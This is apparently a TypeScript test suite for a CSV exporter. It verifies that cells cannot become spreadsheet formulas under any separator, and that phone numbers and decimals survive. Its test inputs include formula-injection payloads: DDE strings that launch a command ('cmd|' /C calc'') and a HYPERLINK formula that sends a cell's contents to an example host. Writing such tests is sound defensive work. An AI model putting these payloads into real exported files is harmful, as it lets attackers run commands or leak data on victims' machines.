/** CSV that programs read as it was written, and that no spreadsheet runs, whatever separator it expects. */

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvLines, SEPARATORS } from '../../scripts/cli/csv.ts';

/** Each of them is a formula in a spreadsheet that begins a cell at one of the separators, or at the beginning. */
const FORMULAS = [
  ...[
    '=1+1',
    '@SUM(A1)',
    '-cmd',
    '+A1',
    '-1+1',
    '+1-1',
    '-',
    '=',
    "-1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
  ],
  ...[
    'x;=1+1',
    'x,=1+1',
    ',=1+1',
    'x\t=1+1',
    'x|=1+1',
    'x\n=1+1',
    'x\r=1+1',
    'x\r\n=1+1',
    'x\u2028=1+1',
    '\0=1+1',
  ],
  ...['x;=1+1;y', 'x;=1+1,y', '"=1+1', '""=1+1', '";=1+1', 'x;"=1+1;y', 'x;""=1+1', 'x,"=1+1",y', '"x";=1+1'],
  ...['＝1+1', '＋A1', '－A1', '＠SUM(A1)', '﹦1+1', '⁺A1', 'x;＝1+1'],
  ...[
    '  =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u3164=1+1',
    'x; \u200b" =1+1',
    '\t\n =1+1',
    ';;=1+1',
  ],
  ...[
    '=HYPERLINK("https://x.example/?"&A1;"y")',
    '+12025550100;=1+1',
    '+12025550100=1+1',
    '-1.5;@A1',
    '=1;=1;"=1',
    '+12025550100,5+HYPERLINK(A1)',
  ],
];

/** Each of them stays as it is. */
const PLAIN = [
  ...[
    '+1 (555) 123-4567',
    '+15551234567',
    '+1-555-123-4567',
    '+44 (0)20 7946 0000',
    '(555) 777-0001',
    '12345',
  ],
  ...[
    '-1.5',
    '-1,5',
    '+3',
    '-12',
    'a,b',
    'a;b',
    'say "x"',
    'two\nlines',
    'two\r\nlines',
    "it's",
    "'",
    '"',
    ',',
    '',
  ],
  ...[
    'a = b',
    'mail@example.com',
    'x-y',
    '1+1',
    'é ü ñ 東京',
    ' a ',
    'call +15551234567, or +15551234568; -1',
  ],
];

/** Cells as a program reads them that expects `separator` and honours a quote only at the beginning of a cell. */
function cellsOf(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      const [all = '', quoted = ''] = /^"((?:[^"]|"")*)(?:"|$)/.exec(text.slice(at)) ?? [];
      cell = quoted.replaceAll('""', '"');
      at += all.length;
    }
    while (at < text.length && text[at] !== separator && !/[\r\n]/.test(text[at] ?? '')) cell += text[at++];
    rows.at(-1)?.push(cell);
    if (text[at] !== separator) {
      if (text[at] === '\r' && text[at + 1] === '\n') at += 1;
      rows.push([]);
    }
    at += 1;
  }
  return rows.slice(0, -1);
}

const BYTE_ORDER_MARK = '\ufeff';

/** @returns what follows the byte order mark */
function written(rows: readonly (readonly (string | number | null)[])[], separator: ',' | ';' = ','): string {
  const text = csvLines(rows, separator);
  assert.ok(text.startsWith(BYTE_ORDER_MARK));
  return text.slice(BYTE_ORDER_MARK.length);
}

describe('CSV', () => {
  for (const separator of SEPARATORS) {
    it(`with ${separator} is read as it was written, phone numbers and negative numbers too`, () => {
      const rows = PLAIN.flatMap((text) => [
        ['a', text, 'b'],
        [text, 'a', text],
      ]);
      assert.deepEqual(cellsOf(written(rows, separator), separator), rows);
    });

    for (const read of [',', ';', '\t', '|'])
      it(`with ${separator} has no formula where ${JSON.stringify(read)} is expected`, () => {
        for (const text of FORMULAS)
          for (const row of [
            [text, 1, 'z'],
            [1, text, text, -1.5],
            ['a', null, text],
          ])
            for (const cell of cellsOf(written([row, row], separator), read).flat()) {
              const start = cell.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}\p{DI}"]+/u, '');
              assert.doesNotMatch(start, /^[=+@-](?![\d.,]*$)/, JSON.stringify([row, cell]));
            }
      });
  }

  it('has an apostrophe before a formula, and nowhere else', () => {
    for (const text of FORMULAS) {
      const [[cell = ''] = []] = cellsOf(written([[text]]), ',');
      assert.notEqual(cell, text);
      assert.equal(cell.replace(/'(?=[=+@＝＋－＠﹦⁺-])/gu, ''), text.replace(/'(?=[=+@-])/gu, ''));
    }
  });

  it('has quotes around text that could continue a number before it', () => {
    assert.equal(
      written([['+15551234567', '5+HYPERLINK(A1)', 'word']]),
      '"+15551234567","5+HYPERLINK(A1)",word\r\n',
    );
  });

  it('has numbers with a decimal point, and with a decimal comma where ; is the separator', () => {
    const numbers = [0.0125, -1.5, 1_234_567, -3, null];
    assert.equal(written([numbers]), '0.0125,-1.5,1234567,-3,\r\n');
    assert.equal(written([numbers], ';'), '0,0125;-1,5;1234567;-3;\r\n');
  });

  it('is written in linear time, whatever the text', () => {
    for (const part of ['\t', ' ', '\u200b', '"', ';', '+1', '+1 ', '+1(', '1', '+'])
      for (const start of ['', '+', '+1111111', ';=']) {
        const startedMs = performance.now();
        csvLines([[`${start}${part.repeat(2 ** 18)}x`]]);
        assert.ok(performance.now() - startedMs < 2000, JSON.stringify([start, part]));
      }
  });
});
